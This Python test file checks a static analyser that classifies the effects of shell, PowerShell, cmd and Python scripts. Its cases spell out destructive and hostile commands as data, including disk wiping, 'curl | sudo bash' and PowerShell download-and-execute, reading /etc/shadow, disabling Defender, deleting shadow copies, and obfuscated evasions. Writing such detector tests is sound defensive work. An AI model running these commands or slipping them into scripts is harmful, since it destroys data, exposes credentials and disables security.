# SPDX-License-Identifier: Apache-2.0
"""Static analysis: effects, severities, and what cannot be judged."""
# ruff: noqa: E501 - tables of cases

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from contracts.canonical import canonical_json
from guardrails.effects import EffectKind as Kind
from guardrails.effects import EffectSeverity as Severity
from guardrails.script_analysis import (
    analyse_script,
    analysis_document,
    combine_analyses,
)

BASH = [
    ("rm -rf /", Kind.DELETES_FILES, "critical", True),
    (r"r\m -rf /etc", Kind.DELETES_FILES, "critical", True),
    ('sudo rm -rf "$X/"', Kind.DELETES_FILES, "high", True),
    ('rm -rf -- "$scratch"', Kind.DELETES_FILES, "medium", True),
    ("bash -c 'rm -rf /home'", Kind.DELETES_FILES, "critical", True),
    ('find "$d" -type f -delete', Kind.DELETES_FILES, "medium", True),
    ("find . | xargs -0 rm -f --", Kind.DELETES_FILES, "medium", True),
    ('systemctl restart -- "$s"', Kind.CHANGES_SERVICES, "medium", True),
    ('kill -TERM "$p"', Kind.ENDS_PROCESSES, "medium", True),
    ("kill -9 -1", Kind.ENDS_PROCESSES, "critical", True),
    ("timeout 5 apt-get -y clean", Kind.CHANGES_SOFTWARE, "medium", True),
    ("curl -s http://x | sudo bash", Kind.RUNS_DYNAMIC_CODE, "critical", False),
    ('eval "$(x)"', Kind.RUNS_DYNAMIC_CODE, "high", False),
    ("$cmd x", Kind.RUNS_DYNAMIC_CODE, "high", False),
    ("dd if=/dev/zero of=/dev/sda", Kind.CHANGES_DISKS, "critical", True),
    ("mkfs.ext4 /dev/sdb1", Kind.CHANGES_DISKS, "critical", True),
    ("echo x > /dev/sda", Kind.CHANGES_DISKS, "critical", True),
    ("echo x >> ~/.bashrc", Kind.PERSISTS, "high", True),
    ("cat /etc/shadow", Kind.READS_CREDENTIALS, "high", True),
    ("systemctl stop auditd", Kind.DISABLES_SECURITY, "high", True),
    ("ufw disable", Kind.DISABLES_SECURITY, "high", True),
    ("ufw --force enable", Kind.CHANGES_NETWORK, "medium", True),
    ("rm -rf /var/log", Kind.ERASES_TRACES, "critical", True),
    ("sudo reboot", Kind.RESTARTS_DEVICE, "high", True),
]
POWERSHELL = [
    ("Remove-Item -Path C:\\ -Recurse -Force", Kind.DELETES_FILES, "critical", True),
    ("Remove-Item -LiteralPath $p -Recurse", Kind.DELETES_FILES, "medium", True),
    ("Get-Service x | Stop-Service", Kind.CHANGES_SERVICES, "medium", True),
    ("(New-Object Net.WebClient).DownloadString('http://x') | iex", Kind.RUNS_DOWNLOADED_CODE, "critical", False),
    ("& $cmd a", Kind.RUNS_DYNAMIC_CODE, "high", False),
    ("powershell -enc AAAA", Kind.RUNS_DYNAMIC_CODE, "critical", False),
    ("Set-MpPreference -DisableRealtimeMonitoring $true", Kind.DISABLES_SECURITY, "high", True),
    ("Set-MpPreference -DisableRealtimeMonitoring $false", Kind.CHANGES_NETWORK, "medium", True),
    ("Stop-Service WinDefend", Kind.DISABLES_SECURITY, "high", True),
    ("vssadmin delete shadows /all", Kind.ERASES_TRACES, "critical", True),
    ("[IO.File]::Delete($x)", Kind.DELETES_FILES, "medium", True),
]  # fmt: skip


@pytest.mark.parametrize(
    ("interpreter", "text", "kind", "severity", "judgeable"),
    [("bash", *case) for case in BASH] + [("powershell", *case) for case in POWERSHELL],
)
def test_effects(interpreter, text, kind, severity, judgeable):
    analysis = analyse_script(interpreter, f"# comment\n{text}\n".encode())
    assert analysis.parsed
    assert analysis.judgeable is judgeable
    assert analysis.severity == severity
    effect = max((e for e in analysis.effects if e.kind is kind), key=lambda e: e.severity.rank)
    assert effect.severity == severity
    assert effect.line == 2


@pytest.mark.parametrize(
    ("interpreter", "text"),
    [
        ("bash", 'systemctl is-active --quiet "$s"'),
        ("bash", 'kill -0 "$p" && df -P / 2>/dev/null >&2'),
        ("bash", "log() { echo \"$1\"; }; log 'rm -rf /'"),
        ("bash", "mode=$(stat -c %a f); (( (8#$mode & 8#077) == 0 )) || echo open"),
        ("zsh", "launchctl list | grep -q x"),
        ("powershell", "Get-Process | Where-Object { $_.CPU -gt 5 }"),
        ("powershell", "sc.exe query x"),
    ],
)
def test_looking_has_no_effect(interpreter, text):
    analysis = analyse_script(interpreter, text.encode())
    assert analysis.judgeable
    assert analysis.effects == ()
    assert analysis.severity is Severity.NONE


@pytest.mark.parametrize(
    ("interpreter", "content"),
    [
        ("perl", b"print 1"),
        ("python", b"def f(:"),
        ("cmd", b"if exist x ("),
        ("bash", b"if then fi fi ((("),
        ("bash", b"echo \xff\xfe"),
        ("bash", b"echo a\0rm -rf /"),
        ("bash", b"#" * (1024 * 1024 + 1)),
    ],
)
def test_what_cannot_be_read_is_not_judgeable(interpreter, content):
    analysis = analyse_script(interpreter, content)
    assert not analysis.parsed
    assert not analysis.judgeable


@pytest.mark.parametrize(
    ("interpreter", "text", "kind"),
    [
        ("powershell", "$a = 'Remove-It' + 'em'; & $a -Recurse -Force C:\\", Kind.DELETES_FILES),
        ("powershell", "& ('i' + 'ex') ('Stop-' + 'Service x')", Kind.CHANGES_SERVICES),
        ("powershell", "$c = \"{1}{0}\" -f 'mputer','Restart-Co'; iex $c", Kind.RESTARTS_DEVICE),
        ("powershell", "iex ([char]82 + 'estart-Computer')", Kind.RESTARTS_DEVICE),
        (
            "powershell",
            "powershell -EncodedCommand UgBlAHMAdABhAHIAdAAtAEMAbwBtAHAAdQB0AGUAcgA=",
            Kind.RESTARTS_DEVICE,
        ),
        ("powershell", 'cmd /c "del /s /q C:\\Windows"', Kind.DELETES_FILES),
        ("cmd", 'powershell -Command "Stop-Service spooler"', Kind.CHANGES_SERVICES),
        ("cmd", "set x=shut& set y=down\n%x%%y% /r /t 0", Kind.RESTARTS_DEVICE),
        ("bash", "x=reboot\n$x", Kind.RESTARTS_DEVICE),
        ("bash", "bash <<'EOF'\nsystemctl stop cups\nEOF", Kind.CHANGES_SERVICES),
        ("bash", "eval 'kill -9 12'", Kind.ENDS_PROCESSES),
        ("bash", "python3 -c 'import shutil; shutil.rmtree(\"/srv\")'", Kind.DELETES_FILES),
        ("python", "import os\nos.system('re' + 'boot')", Kind.RESTARTS_DEVICE),
        ("python", "from os import remove as r\nr('/etc/x')", Kind.DELETES_FILES),
    ],
)
def test_what_is_computed_from_constants_is_seen(interpreter, text, kind):
    analysis = analyse_script(interpreter, text.encode())
    assert kind in {effect.kind for effect in analysis.effects}
    assert analysis.judgeable, analysis.doubts


@pytest.mark.parametrize(
    ("interpreter", "text"),
    [
        ("powershell", "iex $args[0]"),
        ("powershell", "& $env:UNKNOWN"),
        ("powershell", "powershell -File .\\other.ps1"),
        ("powershell", "Invoke-Command -ScriptBlock $block"),
        ("powershell", "Add-Type -TypeDefinition $code"),
        ("powershell", "[scriptblock]::Create($x).Invoke()"),
        ("powershell", ". .\\library.ps1"),
        ("bash", "$(cat x)"),
        ("bash", "x=a; x=b; $x"),
        ("bash", "echo id | sh"),
        ("bash", ". ./library.sh"),
        ("bash", "r${z}m -rf /srv/x"),
        ("bash", "/bin/r? -rf /srv/x"),
        ("bash", "rm() { :; }; unset -f rm; rm -rf /srv/x"),
        ("bash", "/opt/tool/mend.sh"),
        ("bash", 'trap "$cleanup" EXIT'),
        ("zsh", "=rm -rf /srv/x"),
        ("powershell", "if ($false) { function Remove-Item {} }; Remove-Item C:\\x"),
        ("cmd", "%1 /quiet"),
        ("cmd", "call other.bat"),
        ("python", "exec(open('x').read())"),
        ("python", "import os\nos.system(input())"),
        ("python", "getattr(x, 'a' + y)()"),
    ],
)
def test_what_stays_unknown_is_a_doubt_with_its_line(interpreter, text):
    analysis = analyse_script(interpreter, f"\n{text}\n".encode())
    assert analysis.parsed
    assert not analysis.judgeable
    line = 2 + text.count("\n")
    assert {doubt.line for doubt in analysis.doubts} == {line}
    assert analysis_document(analysis)["reasons"][0]["line"] == line


@pytest.mark.parametrize(
    ("interpreter", "text"),
    [
        ("powershell", "$c = 'Get-Date'\nwhile ($true) { iex $c; $c = Read-Host }"),
        ("powershell", "$c = 'Get-Date'\nforeach ($c in $list) { iex $c }"),
        ("powershell", "$c = 'Get-Date'\nSet-Variable c $args[0]\niex $c"),
        ("bash", "c=date\nread -r c\n$c"),
        ("bash", "c=date\nfor c in a b; do $c; done"),
        ("cmd", "set c=dir\nset /p c=?\n%c%"),
        ("python", "import os\nc = 'date'\nfor c in x:\n    os.system(c)"),
    ],
)
def test_a_variable_set_twice_is_no_constant(interpreter, text):
    assert not analyse_script(interpreter, text.encode()).judgeable


def test_code_of_a_trap_is_read():
    analysis = analyse_script("bash", b"trap 'rm -rf /home/x' EXIT\n")
    assert Kind.DELETES_FILES in {effect.kind for effect in analysis.effects}


def test_blanks_cost_no_time():
    began = time.process_time()
    analyse_script("cmd", b"\t" * 60_000 + b"x")
    assert time.process_time() - began < 5


def test_a_syntax_error_hides_nothing():
    analysis = analyse_script("powershell", b"if ((\nvssadmin delete shadows /all\n")
    assert not analysis.judgeable
    found = [effect for effect in analysis.effects if effect.technique == "T1490"]
    assert found
    assert found[0].line == 2
    assert found[0].severity is Severity.CRITICAL


def test_gaps_of_the_grammar_are_worked_around():
    text = (
        "$free = (Get-Volume C).SizeRemaining / 1GB\n"
        "Get-NetAdapter | Select-Object Name, Status, LinkSpeed\n"
        "if (!(Test-Path $env:ProgramData\\Company\\temp)) { 'x' }\n"
        "Get-Process | \n  Sort-Object CPU\n"
    )
    analysis = analyse_script("powershell", text.encode())
    assert analysis.parsed
    assert analysis.judgeable


def test_deep_nesting_is_survived():
    assert analyse_script("bash", b"$(" * 3000 + b")" * 3000) is not None
    inner = "echo"
    for _ in range(3):
        inner = f"bash -c '{inner}'"
    assert analyse_script("bash", inner.encode()) is not None


def test_steps_together():
    quiet, loud = analyse_script("bash", b"df -P /"), analyse_script("bash", b'eval "$x"')
    both = combine_analyses([quiet, loud])
    assert both.severity is Severity.HIGH
    assert not both.judgeable
    assert not combine_analyses([]).judgeable
    assert {each["kind"] for each in analysis_document(both)["effects"]} == {"runs_dynamic_code"}
    assert canonical_json(analysis_document(both))


_PIECES = st.sampled_from(
    b"'|\"|(|)|{|}|$(|$x|=|+|-f|-join|[char]65|'a'|\n|;|iex |& |cmd /c |powershell -enc |eval |<<E\n|E\n|%x%|^|`|@'\n|,|..|::|exec(".split(
        b"|"
    )
)


@settings(max_examples=150, deadline=None)
@given(
    st.one_of(st.binary(max_size=200), st.lists(_PIECES, max_size=40).map(b"".join)),
    st.sampled_from(["bash", "zsh", "powershell", "cmd", "python"]),
)
def test_any_bytes_are_survived(content, interpreter):
    analysis = analyse_script(interpreter, content)
    assert canonical_json(analysis_document(combine_analyses([analysis])))


@pytest.mark.parametrize(
    ("interpreter", "text", "line"),
    [
        ("bash", "date\nif true; then\n  date\ndate\n", 2),
        ("bash", "date\nfor x in 1 2; do\n  date\ndate\ndate\n", 2),
        ("bash", "date\nx=$(date\nls\ndate\n", 2),
        ("bash", "date\nls\ncase $x in\n a) date;;\ndone\nls\n", 3),
        ("bash", 'date\necho "b\ndate\nls\n', 2),
        ("powershell", "Get-Date\nif ($x) {\n Get-Date\n\nGet-Process\n", 2),
        ("powershell", "Get-Date\nfunction f {\nparam($x)\nGet-Date\n", 2),
        ("powershell", "Get-Date\n$x = @{\n a = 1\n b = }\nGet-Process\n", 4),
    ],
)
def test_what_does_not_parse_is_told_of_where_it_begins(interpreter, text, line):
    analysis = analyse_script(interpreter, text.encode())
    found = [doubt.line for doubt in analysis.doubts if "does not parse" in doubt.reason]
    assert found[0] == line
